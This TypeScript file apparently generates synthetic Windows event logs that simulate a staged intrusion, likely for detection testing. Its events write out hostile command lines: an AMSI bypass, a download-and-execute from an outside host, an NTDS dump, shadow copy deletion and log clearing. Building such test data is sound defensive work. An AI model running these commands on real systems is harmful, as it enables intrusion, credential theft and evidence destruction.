import { desks, domainController, fileServer } from "./company.ts";
import { at, type Timed } from "./day.ts";
import { powershell, processStart, scriptBlock, security, sysmon, system32, systemLog } from "./windows-event.ts";

const host = desks[3]?.host ?? fileServer;
const user = "omar";
const address = "192.0.2.24";
const word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
/** Nothing but `Write-Host 'only an example, and harmless'`, as PowerShell wants it encoded. */
const encoded = Buffer.from("Write-Host 'only an example, and harmless'", "utf16le").toString("base64");

/** A letter with a macro, a look around, a stolen hash, the file server, and the tracks covered. */
export function windowsIntrusion(): Timed[] {
  return [...openLetter(), ...lookAround(), ...stealCredentials(), ...moveToFileServer(), ...coverTracks()];
}

function run(clock: string, where: string, image: string, commandLine: string, parent: string, who = user): Timed[] {
  return processStart(at(clock), where, { image, commandLine, parent, user: who });
}

function openLetter(): Timed[] {
  return [
    ...run(
      "09:14:02",
      host,
      word,
      '"WINWORD.EXE" C:\\Users\\omar\\Downloads\\invoice-4711.docm',
      "C:\\Windows\\explorer.exe",
    ),
    ...run("09:14:09", host, powershell, `powershell.exe -NoP -W Hidden -Enc ${encoded}`, word),
    scriptBlock(
      at("09:14:11"),
      host,
      "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
    ),
    scriptBlock(at("09:14:12"), host, "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.80/stage')"),
    sysmon(at("09:15:40"), host, 13, {
      Image: powershell,
      TargetObject: "HKU\\S-1-5-21-1004-1107\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
      Details: `"${powershell}" -W Hidden -File C:\\Users\\omar\\AppData\\Roaming\\u.ps1`,
      User: "BIKES\\omar",
    }),
  ];
}

function lookAround(): Timed[] {
  const questions: readonly (readonly [string, string])[] = [
    ["whoami.exe", "whoami /all"],
    ["net.exe", 'net group "Domain Admins" /domain'],
    ["nltest.exe", "nltest /dclist:bikes.example.com"],
    ["systeminfo.exe", "systeminfo"],
    ["tasklist.exe", "tasklist /v"],
    ["netstat.exe", "netstat -ano"],
  ];
  return questions.flatMap(([program, commandLine], index) =>
    processStart(at("09:21:00") + index * 11_000, host, {
      image: system32(program),
      commandLine,
      parent: powershell,
      user,
    }),
  );
}

function stealCredentials(): Timed[] {
  const roasted = [
    "svc_sql",
    "svc_backup",
    "svc_web",
    "svc_print",
    "svc_mail",
    "svc_crm",
    "svc_scan",
    "svc_bi",
    "svc_cam",
  ];
  return [
    sysmon(at("09:38:20"), host, 10, {
      SourceImage: powershell,
      TargetImage: system32("lsass.exe"),
      GrantedAccess: "0x1010",
      CallTrace:
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(00000221B3C4D5E6)",
      SourceUser: "BIKES\\omar",
    }),
    ...roasted.map((ServiceName, index) =>
      security(at("09:52:00") + index * 900, domainController, 4769, {
        TargetUserName: "omar@BIKES.EXAMPLE.COM",
        ServiceName,
        TicketEncryptionType: "0x17",
        TicketOptions: "0x40810000",
        Status: "0x0",
        IpAddress: `::ffff:${address}`,
      }),
    ),
    security(at("10:05:31"), domainController, 4768, {
      TargetUserName: "lena",
      ServiceName: "krbtgt",
      TicketEncryptionType: "0x17",
      TicketOptions: "0x40800010",
      PreAuthType: 2,
      Status: "0x0",
      IpAddress: `::ffff:${address}`,
    }),
  ];
}

function moveToFileServer(): Timed[] {
  const share = { SubjectUserName: "lena", IpAddress: address };
  return [
    security(at("10:07:10"), fileServer, 5140, { ...share, ShareName: "\\\\*\\ADMIN$", AccessMask: "0x1" }),
    security(at("10:07:12"), fileServer, 5145, {
      ...share,
      ShareName: "\\\\*\\ADMIN$",
      RelativeTargetName: "Temp\\wcheck.exe",
      AccessMask: "0x2",
    }),
    security(at("10:07:15"), fileServer, 5145, {
      ...share,
      ShareName: "\\\\*\\IPC$",
      RelativeTargetName: "svcctl",
      AccessMask: "0x12019f",
    }),
    systemLog(at("10:07:16"), fileServer, 7045, {
      ServiceName: "WCheck",
      ImagePath: `%COMSPEC% /C start /b powershell -NoP -W 1 -Enc ${encoded}`,
      ServiceType: "user mode service",
      StartType: "demand start",
    }),
    ...run(
      "10:07:17",
      fileServer,
      system32("cmd.exe"),
      "cmd.exe /C start /b powershell -NoP",
      system32("services.exe"),
      "SYSTEM",
    ),
    ...run(
      "10:19:44",
      fileServer,
      system32("cmd.exe"),
      "cmd.exe /Q /c dir P:\\",
      system32("wbem\\WmiPrvSE.exe"),
      "lena",
    ),
    ...run(
      "10:31:05",
      domainController,
      system32("ntdsutil.exe"),
      'ntdsutil "ac i ntds" ifm "create full C:\\Windows\\Temp\\m" q q',
      system32("cmd.exe"),
      "lena",
    ),
  ];
}

function coverTracks(): Timed[] {
  return [
    ...run(
      "11:02:11",
      fileServer,
      powershell,
      "powershell Add-MpPreference -ExclusionPath C:\\Windows\\Temp",
      system32("cmd.exe"),
      "lena",
    ),
    ...run(
      "11:02:40",
      fileServer,
      system32("auditpol.exe"),
      'auditpol /set /category:"Detailed Tracking" /success:disable /failure:disable',
      system32("cmd.exe"),
      "lena",
    ),
    security(at("11:02:40"), fileServer, 4719, {
      SubjectUserName: "lena",
      SubcategoryGuid: "{0cce922b-69ae-11d9-bed3-505054503030}",
      AuditPolicyChanges: "%%8448, %%8450",
    }),
    ...run(
      "11:24:30",
      fileServer,
      system32("vssadmin.exe"),
      "vssadmin delete shadows /all /quiet",
      system32("cmd.exe"),
      "lena",
    ),
    security(at("11:25:02"), fileServer, 1102, { SubjectUserName: "lena", SubjectDomainName: "BIKES" }),
    systemLog(at("11:25:03"), fileServer, 104, { SubjectUserName: "lena", BackupPath: "" }),
    systemLog(at("11:25:04"), fileServer, 104, { SubjectUserName: "lena", BackupPath: "" }),
  ];
}
